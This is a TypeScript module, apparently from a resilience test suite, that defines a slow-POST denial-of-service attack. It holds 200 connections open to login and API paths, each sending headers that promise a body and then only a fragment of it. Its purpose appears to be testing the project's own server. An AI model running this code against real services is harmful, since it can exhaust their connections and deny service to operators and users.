import { connect, type Socket } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import type { Attack } from "./attack";

const CLIENTS = 200;
const PATHS = ["/api/auth/sign-in/email", "/api/pairings/collect", "/api/share-links", "/login"];
const LOOK_EVERY_MS = 50;

/** Each opens another as soon as its own is closed. */
export const halfSentPosts: Attack = {
  name: `${CLIENTS} half-sent POST bodies`,
  run: async ({ app }, ending) => {
    let begun = 0;
    let open: Socket[] = [];
    while (!ending.aborted) {
      open = open.filter((socket) => !socket.closed);
      while (open.length < CLIENTS) {
        open.push(beginPost(app.url, PATHS[begun % PATHS.length] ?? "/"));
        begun += 1;
      }
      await sleep(LOOK_EVERY_MS);
    }
    for (const socket of open) socket.destroy();
    return `${begun} begun`;
  },
};

/** A client that announces a body and sends a part of it. */
export function beginPost(url: string, path: string): Socket {
  const { hostname, port, host } = new URL(url);
  const headers = ["Content-Type: application/json", "Content-Length: 1000", `Host: ${host}`, `Origin: ${url}`];
  const socket = connect(Number(port), hostname);
  // A server that has had enough may reset the connection.
  socket.on("error", () => {}).resume();
  socket.write([`POST ${path} HTTP/1.1`, ...headers, "", '{"a":'].join("\r\n"));
  return socket;
}
